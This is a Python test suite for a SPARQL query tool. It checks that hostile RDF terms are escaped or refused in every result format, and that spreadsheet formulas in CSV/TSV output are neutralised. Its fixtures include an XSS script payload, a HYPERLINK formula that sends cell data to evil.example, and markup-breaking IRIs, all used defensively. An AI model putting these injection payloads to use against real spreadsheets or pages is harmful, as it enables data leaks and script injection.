"""Hostile IRIs, datatypes, language tags and texts through every output format of both stores.

Each result is written in every format the endpoint and the CLI offer (SELECT: JSON, XML, CSV,
TSV; CONSTRUCT: Turtle, N-Triples, JSON-LD, RDF/XML), read back with an independent parser, and
must give the same terms, or be refused with ``UnwritableResult`` (a 406 at the endpoint) when
the format cannot hold a term. CSV and TSV cells a spreadsheet would run as formulas come back
neutralised the OWASP way (a leading ``'``); numbers typed as numbers are values and stay.
"""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import pyoxigraph as ox
import pytest
from rdflib import Graph, Literal, URIRef
from rdflib.namespace import XSD
from rdflib.query import Result
from typer.testing import CliRunner

from http_support import running
from tiltaksgraf.graph.stores import OxigraphStore, RdflibStore
from tiltaksgraf.errors import UnwritableResult
from tiltaksgraf.queries.formats import format_result
from tiltaksgraf.queries.runner import run_sparql

SCRIPT = '</literal><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'
# Valid but awkward IRIs and datatypes (both stores accept them), language tags, and texts.
SUBJECT = URIRef("urn:x:a&b'c;d")
TRIPLES = [
    (SUBJECT, URIRef("http://ex.org/p#x&amp;y"), Literal(SCRIPT + ' ]]> "q" \'a\' \\ & \r\n\t end')),
    (SUBJECT, URIRef("urn:x:é-ü"), Literal('=HYPERLINK("http://evil.example/?"&A1, "click")')),
    (SUBJECT, URIRef("urn:x:plus"), Literal("+1", lang="en-x-ab")),
    (SUBJECT, URIRef("urn:x:integer"), Literal("-3", datatype=XSD.integer)),
    (SUBJECT, URIRef("urn:x:double"), Literal("-2.5E3", datatype=XSD.double)),
    (SUBJECT, URIRef("urn:x:at"), Literal("@SUM(1+1)", datatype=URIRef("urn:x:dt?a=1&b='2'"))),
    (SUBJECT, URIRef("urn:x:iri"), URIRef("urn:x:%22%3E%3Cscript%3E")),
    (SUBJECT, URIRef("urn:x:lang"), Literal("-x\u2028y", lang="nb-NO")),
    (SUBJECT, URIRef("urn:x:tab"), Literal("\tTAB")),
    (SUBJECT, URIRef("urn:x:minus-text"), Literal("-3")),
    (SUBJECT, URIRef("urn:x:cr"), Literal("\r=1")),
    (SUBJECT, URIRef("urn:x:safe"), Literal("a = b + c")),
]
# What a spreadsheet must not run: every formula-like cell except the typed numbers.
NEUTRALISED = {"urn:x:é-ü", "urn:x:plus", "urn:x:at", "urn:x:lang", "urn:x:tab", "urn:x:minus-text", "urn:x:cr"}
# IRIs no IRI may be (quote, angle brackets): rdflib's IRI() makes them, Oxigraph's refuses.
BAD_IRI_CONSTRUCT = (
    'CONSTRUCT { ?s ?p ?o . <urn:x:a> <urn:x:p> ?t } WHERE { BIND(IRI("urn:x:s\\"><b>") AS ?s) '
    'BIND(IRI("urn:x:p\\"q") AS ?p) BIND("v" AS ?o) '
    'BIND(STRDT("x", IRI("urn:x\\"><script xmlns=\\"http://www.w3.org/1999/xhtml\\">alert(1)</script>")) AS ?t) }')
BAD_IRI_SELECT = ('SELECT ?i ?t WHERE { BIND(IRI("urn:x:p\\"q<>") AS ?i) '
                  'BIND(STRDT("x", IRI("urn:x\\"><script>")) AS ?t) }')
SELECT_ALL = "SELECT ?s ?p ?o WHERE { ?s ?p ?o } ORDER BY ?p"
CONSTRUCT_ALL = "CONSTRUCT WHERE { ?s ?p ?o }"
PARSERS = {"turtle": "turtle", "nt": "nt", "jsonld": "json-ld", "rdfxml": "xml"}


def _oxigraph_term(term):
    if isinstance(term, URIRef):
        return ox.NamedNode(str(term))
    if term.language:
        return ox.Literal(str(term), language=term.language)
    return ox.Literal(str(term), datatype=ox.NamedNode(str(term.datatype or XSD.string)))


@pytest.fixture(scope="module", params=["rdflib", "oxigraph"])
def store(request):
    if request.param == "rdflib":
        graph = Graph()
        for triple in TRIPLES:
            graph.add(triple)
        return RdflibStore(graph, "hostile terms")
    native = ox.Store()
    for s, p, o in TRIPLES:
        native.add(ox.Quad(_oxigraph_term(s), _oxigraph_term(p), _oxigraph_term(o)))
    return OxigraphStore(native, "hostile terms")


def expected_cell(predicate: URIRef, term) -> str:
    return ("'" + str(term)) if str(predicate) in NEUTRALISED else str(term)


def test_escaping_select_round_trips_through_json_and_xml(store) -> None:
    result = run_sparql(store, SELECT_ALL)
    assert len(result.rows) == len(TRIPLES)
    for fmt in ("json", "xml"):
        parsed = Result.parse(io.StringIO(format_result(result, fmt)), format=fmt)
        assert [tuple(row) for row in parsed] == result.rows, fmt  # the raw values, quotes and formulas included


def test_escaping_xml_results_carry_no_markup_of_their_own(store) -> None:
    text = format_result(run_sparql(store, SELECT_ALL), "xml")
    root = ET.fromstring(text)
    assert all(element.tag.startswith("{http://www.w3.org/2005/sparql-results#}") for element in root.iter())


def test_escaping_csv_neutralises_formulas_but_keeps_typed_numbers(store) -> None:
    result = run_sparql(store, SELECT_ALL)
    rows = list(csv.reader(io.StringIO(format_result(result, "csv"), newline="")))
    assert rows[0] == ["s", "p", "o"]
    assert len(rows) == len(TRIPLES) + 1
    for (s, p, o), cells in zip(result.rows, rows[1:]):
        assert cells == [str(s), str(p), expected_cell(p, o)], cells
    by_predicate = {cells[1]: cells[2] for cells in rows[1:]}
    assert by_predicate["urn:x:integer"] == "-3" and by_predicate["urn:x:double"].startswith("-2")  # a value
    assert by_predicate["urn:x:minus-text"] == "'-3" and by_predicate["urn:x:safe"] == "a = b + c"
    assert by_predicate["urn:x:é-ü"].startswith("'=HYPERLINK(")


def test_escaping_tsv_round_trips_with_formulas_neutralised(store) -> None:
    result = run_sparql(store, SELECT_ALL)
    parsed = [tuple(row) for row in Result.parse(io.StringIO(format_result(result, "tsv")), format="tsv")]
    assert len(parsed) == len(TRIPLES)
    for (s, p, o), back in zip(result.rows, parsed):
        if str(p) in NEUTRALISED:
            o = Literal("'" + str(o), lang=o.language, datatype=o.datatype)
        assert back == (s, p, o), (back, (s, p, o))


def test_escaping_json_keeps_the_raw_formula(store) -> None:
    document = json.loads(format_result(run_sparql(store, SELECT_ALL), "json"))
    values = {b["p"]["value"]: b["o"]["value"] for b in document["results"]["bindings"]}
    assert values["urn:x:é-ü"].startswith("=HYPERLINK(") and values["urn:x:minus-text"] == "-3"


@pytest.mark.parametrize("fmt", list(PARSERS))
def test_escaping_graph_formats_round_trip(store, fmt: str) -> None:
    result = run_sparql(store, CONSTRUCT_ALL)
    assert len(result.graph) == len(TRIPLES)
    text = format_result(result, fmt)
    back = Graph().parse(data=text, format=PARSERS[fmt])
    assert set(back) == set(result.graph), fmt


def test_escaping_rdfxml_has_no_element_but_rdf_and_properties(store) -> None:
    root = ET.fromstring(format_result(run_sparql(store, CONSTRUCT_ALL), "rdfxml"))
    tags = {element.tag for element in root.iter()}
    assert not any("xhtml" in tag or tag.endswith("script") for tag in tags), tags


@pytest.mark.parametrize("fmt", ["json", "xml", "csv", "tsv"])
def test_escaping_invalid_iris_in_select_round_trip_or_are_refused(store, fmt: str) -> None:
    result = run_sparql(store, BAD_IRI_SELECT)
    if isinstance(store, OxigraphStore):  # its IRI() refuses them: nothing hostile to write
        assert result.rows == [(None, None)]
        return
    try:
        text = format_result(result, fmt)
    except UnwritableResult as exc:
        assert "not a valid IRI" in exc.detail and fmt == "tsv"
        return
    if fmt == "csv":
        cells = list(csv.reader(io.StringIO(text, newline="")))[1]
        assert cells == ["" if t is None else str(t) for t in result.rows[0]]
    else:
        assert [tuple(row) for row in Result.parse(io.StringIO(text), format=fmt)] == result.rows
        assert b"<script>" not in text.encode() or fmt == "json"  # XML escapes it; JSON is not markup


@pytest.mark.parametrize("fmt", list(PARSERS))
def test_escaping_invalid_iris_in_graphs_round_trip_or_are_refused(store, fmt: str) -> None:
    """rdflib's IRI() lets a quote into an IRI (Oxigraph's leaves the variable unbound): Turtle,
    N-Triples and RDF/XML cannot write such an IRI and say so; JSON-LD's strings can."""
    result = run_sparql(store, BAD_IRI_CONSTRUCT)
    try:
        text = format_result(result, fmt)
    except UnwritableResult as exc:
        assert "not a valid IRI" in exc.detail and fmt != "jsonld"
        assert isinstance(store, RdflibStore)
        return
    back = Graph().parse(data=text, format=PARSERS[fmt])
    assert set(back) == set(result.graph)
    if fmt == "rdfxml":
        assert "script" not in {element.tag for element in ET.fromstring(text).iter()}


def test_escaping_endpoint_refuses_what_rdfxml_cannot_hold_with_406() -> None:
    import urllib.error
    import urllib.parse
    import urllib.request

    with running(RdflibStore(Graph(), "empty")) as server:
        url = server.url + "sparql?" + urllib.parse.urlencode({"query": BAD_IRI_CONSTRUCT})
        for accept in ("application/rdf+xml", "text/turtle", "application/n-triples"):
            request = urllib.request.Request(url, headers={"Accept": accept})
            with pytest.raises(urllib.error.HTTPError) as caught:
                urllib.request.urlopen(request, timeout=30)
            document = json.loads(caught.value.read())
            assert caught.value.code == 406 and document["status"] == 406
            assert "not a valid IRI" in document["error"] and "JSON-LD" in document["hint"]
        request = urllib.request.Request(url, headers={"Accept": "application/ld+json"})
        with urllib.request.urlopen(request, timeout=30) as response:
            assert response.status == 200 and response.headers["X-Content-Type-Options"] == "nosniff"


def test_escaping_cli_csv_and_tsv_neutralise_formulas(built) -> None:
    from tiltaksgraf.cli import app

    query = 'SELECT ?f ?n WHERE { BIND("=1+1" AS ?f) BIND(-3 AS ?n) }'
    runner = CliRunner()
    csv_out = runner.invoke(app, ["query", "--sparql", query, "-g", str(built), "--format", "csv"])
    assert csv_out.exit_code == 0 and csv_out.stdout.splitlines() == ["f,n", "'=1+1,-3"]
    tsv_out = runner.invoke(app, ["query", "--sparql", query, "-g", str(built), "--format", "tsv"])
    assert tsv_out.exit_code == 0 and tsv_out.stdout.splitlines() == ["?f\t?n", "\"'=1+1\"\t-3"]
    json_out = runner.invoke(app, ["query", "--sparql", query, "-g", str(built), "--format", "json"])
    assert json.loads(json_out.stdout)["results"]["bindings"][0]["f"]["value"] == "=1+1"


def test_escaping_rdfxml_refuses_a_predicate_no_xml_name_can_end() -> None:
    graph = Graph()
    graph.add((SUBJECT, URIRef("urn:x:p;"), Literal("v")))
    graph.add((SUBJECT, URIRef("http://www.w3.org/1999/02/22-rdf-syntax-ns#about"), Literal("v")))
    for predicate in graph.predicates():
        single = Graph()
        single.add((SUBJECT, predicate, Literal("v")))
        result = run_sparql(RdflibStore(single, "one"), CONSTRUCT_ALL)
        with pytest.raises(UnwritableResult, match="cannot be written in RDF/XML"):
            format_result(result, "rdfxml")
        assert set(Graph().parse(data=format_result(result, "turtle"), format="turtle")) == set(single)


def test_escaping_xml_formats_stay_well_formed_with_control_characters() -> None:
    """XML 1.0 cannot carry a form feed even as a reference: both XML formats write U+FFFD,
    JSON keeps it exactly."""
    graph = Graph()
    graph.add((SUBJECT, URIRef("urn:x:ff"), Literal("page\x0cbreak\x01")))
    store = RdflibStore(graph, "one")
    back = Graph().parse(data=format_result(run_sparql(store, CONSTRUCT_ALL), "rdfxml"), format="xml")
    assert [str(o) for o in back.objects()] == ["page\ufffdbreak\ufffd"]
    select = run_sparql(store, SELECT_ALL)
    assert [str(r[2]) for r in Result.parse(io.StringIO(format_result(select, "xml")), format="xml")] == [
        "page\ufffdbreak\ufffd"]
    assert json.loads(format_result(select, "json"))["results"]["bindings"][0]["o"]["value"] == "page\x0cbreak\x01"
